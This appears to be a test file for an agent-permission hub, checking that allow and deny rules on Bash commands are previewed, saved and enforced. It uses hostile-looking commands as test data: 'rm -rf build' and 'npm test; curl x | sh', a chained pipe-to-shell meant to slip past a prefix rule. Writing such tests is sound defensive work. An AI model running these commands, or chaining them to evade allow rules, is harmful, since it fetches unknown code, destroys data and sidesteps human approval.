@@ -1,0 +1,124 @@
+// Rules by pattern in real headless Chromium, against a hub driving the real Claude Code CLI on the
+// fake Messages API (issue 36's acceptance): a prefix rule previewed (the prompt it would have matched
+// listed), saved, and then answering the next matching prompt unasked; a deny rule refusing one with
+// its message; and a command joined to another by shell operators not allowed by the prefix rule.
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest'
+import { latestTurn, textOf, toolResults } from '../fakes/anthropic.js'
+import { launchChromium } from '../helpers/chromium.js'
+import { adminCall, e2eWorld, startDrivingHub } from '../helpers/e2e.js'
+import { waitFor } from '../helpers/home.js'
+
+const world = e2eWorld()
+let browser: Browser
+
+beforeAll(async () => {
+  browser = await launchChromium()
+})
+afterAll(async () => {
+  await browser?.close()
+})
+beforeEach(async () => {
+  await startDrivingHub(world)
+})
+
+/** A signed-in page: the link `switchboard open --print` prints, opened once. */
+async function signedIn(): Promise<Page> {
+  const printed = await world.home.cli('open', '--print')
+  const url = /(http:\/\/\S+\/signin\?token=\S+)/.exec(printed)?.[1]
+  expect(url).toBeDefined()
+  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } })
+  world.closers.push(() => context.close())
+  const page = await context.newPage()
+  await page.goto(url as string)
+  await page.getByRole('link', { name: /Sessions/ }).waitFor()
+  return page
+}
+
+/** Each turn's message names the command the model runs in it. */
+const COMMANDS: Record<string, string> = {
+  first: 'npm test -- --watch',
+  second: 'npm test -- --run',
+  third: 'rm -rf build',
+  fourth: 'npm test; curl x | sh',
+}
+
+it('previews a prefix rule, saves it, and it answers the next matching prompt; a deny rule refuses one', async () => {
+  const page = await signedIn()
+  /** What the model was told each tool call came to, in order. */
+  const results: string[] = []
+  world.fake.respond((r) => {
+    const done = toolResults(r)
+    if (done.length) {
+      results.push(textOf(done.map((b) => (b as { content?: unknown }).content)))
+      return { text: `done: ${latestTurn(r).split('\n')[0]}` }
+    }
+    const command = COMMANDS[latestTurn(r).trim()] ?? 'true'
+    return { tool: 'Bash', input: { command, description: 'Run it' } }
+  })
+  const created = await adminCall<{ id: string }>(world, 'POST', '/api/sessions', {
+    prompt: 'first',
+    options: { cwd: world.claude.cwd },
+  })
+  const id = created.json.id
+  const turnsDone = (n: number) =>
+    waitFor(async () => results.length >= n, 30_000, `tool result ${n} to reach the model`)
+
+  // The first prompt is asked and approved in the Inbox: an answered decision a preview can list.
+  await page.getByRole('link', { name: /Inbox/ }).click()
+  await page.getByText('npm test -- --watch').first().waitFor({ timeout: 30_000 })
+  await page.getByRole('button', { name: 'Approve' }).click()
+  await turnsDone(1)
+
+  // A prefix rule, previewed: the earlier prompt is listed; then saved.
+  await page.getByRole('link', { name: 'Rules' }).click()
+  await page.getByLabel('Tool').fill('Bash')
+  await page.getByLabel('Match').selectOption('prefix')
+  await page.getByLabel('Pattern').fill('npm test')
+  await page.getByLabel('Then').selectOption('allow')
+  await page.getByLabel('Where').selectOption('everywhere')
+  const save = page.getByRole('button', { name: 'Save rule' })
+  expect(await save.isDisabled()).toBe(true)
+  await page.getByRole('button', { name: 'Preview' }).click()
+  const preview = page.getByRole('region', { name: 'Preview' })
+  await preview.getByText('$ npm test -- --watch').waitFor()
+  await preview.getByText(/Would have matched 1 of the last 1 answered prompts/).waitFor()
+  await save.click()
+  await page.getByText('Allows Bash starting with "npm test"').waitFor()
+
+  // The next `npm test …` passes unasked, answered by the rule.
+  await adminCall(world, 'POST', `/api/sessions/${id}/messages`, { text: 'second' })
+  await turnsDone(2)
+  const open = async () =>
+    (
+      await adminCall<{ decisions: { request: { input?: { command?: string } } }[] }>(
+        world,
+        'GET',
+        '/api/decisions',
+      )
+    ).json.decisions
+  expect(await open()).toEqual([])
+
+  // A deny rule on `rm *` refuses `rm -rf build`, the model told which rule.
+  await page.getByLabel('Match').selectOption('glob')
+  await page.getByLabel('Pattern').fill('rm *')
+  await page.getByLabel('Then').selectOption('deny')
+  await page.getByRole('button', { name: 'Preview' }).click()
+  await preview.getByText(/Would have matched 0 of the last/).waitFor()
+  await save.click()
+  await page.getByText('Denies Bash matching "rm *"').waitFor()
+  await adminCall(world, 'POST', `/api/sessions/${id}/messages`, { text: 'third' })
+  await turnsDone(3)
+  expect(results[2]).toMatch(/^Denied by rule rule_\S+ \(Bash matching "rm \*", made by /)
+  expect(await open()).toEqual([])
+
+  // `npm test; curl x | sh` is not the prefix rule's: it is asked in the Inbox.
+  await adminCall(world, 'POST', `/api/sessions/${id}/messages`, { text: 'fourth' })
+  await waitFor(
+    async () => (await open()).some((d) => d.request.input?.command === 'npm test; curl x | sh'),
+    30_000,
+    'the chained command to be asked',
+  )
+  await page.getByRole('link', { name: /Inbox/ }).click()
+  await page.getByText('npm test; curl x | sh').first().waitFor({ timeout: 30_000 })
+})
